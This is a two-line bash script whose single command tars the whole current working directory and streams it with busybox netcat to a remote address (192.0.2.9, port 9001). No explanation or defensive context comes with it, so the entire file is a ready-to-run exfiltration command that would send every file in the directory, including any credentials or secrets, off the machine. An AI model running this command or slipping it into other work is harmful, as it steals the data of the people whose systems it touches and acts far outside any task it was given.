#!/bin/bash
tar c . | busybox nc 192.0.2.9 9001
